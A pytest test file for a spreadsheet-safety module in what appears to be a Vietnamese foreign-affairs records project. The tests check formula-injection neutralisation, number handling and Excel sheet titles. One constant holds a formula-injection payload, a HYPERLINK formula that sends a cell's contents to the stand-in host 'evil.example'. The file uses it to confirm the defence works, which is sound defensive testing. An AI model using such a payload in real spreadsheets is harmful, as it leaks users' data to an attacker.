"""The one rule for spreadsheet cells: typed text never becomes a formula; numbers stay numbers."""

import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from ngoaivu.pure.spreadsheets import formula_like, neutralise, protect_cell, protect_sheet, sheet_title, xml_text

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_quote_in_csv(start):
    assert formula_like(start + "1+1")
    assert neutralise(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"


@pytest.mark.parametrize("value", ["Đoàn JICA", "", " =1", "Sở Ngoại vụ", "'=1"])
def test_ordinary_text_is_unchanged(value):
    assert not formula_like(value)
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-4600000000"), 0, None])
def test_numbers_are_never_neutralised(value):
    assert not formula_like(value)
    assert neutralise(value) == value


def saved(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_sheet_keeps_typed_formulas_as_text_and_numbers_as_numbers():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([ATTACK, "-KOICA", "@SUM(1)", -5, "Lào"])
    assert sheet["A1"].data_type == "f"  # what openpyxl does on its own
    protect_sheet(sheet)
    data = saved(book)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    again = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [cell.value for cell in again[1]] == [ATTACK, "-KOICA", "@SUM(1)", -5, "Lào"]
    assert [cell.data_type for cell in again[1]] == ["s", "s", "s", "n", "s"]
    assert [cell.quotePrefix for cell in again[1]] == [True, True, True, False, False]


def test_protect_cell_leaves_numbers_alone():
    cell = openpyxl.Workbook().active["A1"]
    cell.value = -4_600_000_000
    protect_cell(cell)
    assert cell.data_type == "n" and not cell.quotePrefix


def test_control_characters_an_xlsx_cannot_hold_are_dropped():
    assert xml_text("Dòng 1\x0bDòng 2\x01") == "Dòng 1\nDòng 2"
    assert xml_text(-5) == -5


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("Đoàn vào", "Đoàn vào"),
        ("Kế hoạch đoàn ra, đoàn vào năm", "Kế hoạch đoàn ra, đoàn vào năm"),
        ("Người nước ngoài, lưu học sinh và chuyên gia", "Người nước ngoài, lưu học sinh"),
        ("Consular affairs and citizen protection", "Consular affairs and citizen"),
        ("Aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "A" + "a" * 30),
        ("Thỏa thuận [2021]: ký/gia hạn?*\\", "Thỏa thuận 2021 kýgia hạn"),
        ("'Tổng hợp'", "Tổng hợp"),
        ("[]:*?/\\", "Sheet1"),
    ],
)
def test_sheet_titles_are_ones_excel_accepts(name, title):
    result = sheet_title(name)
    assert result == title
    assert len(result) <= 31 and not set(result) & set("[]:*?/\\")
    openpyxl.Workbook().active.title = result  # openpyxl refuses what Excel refuses
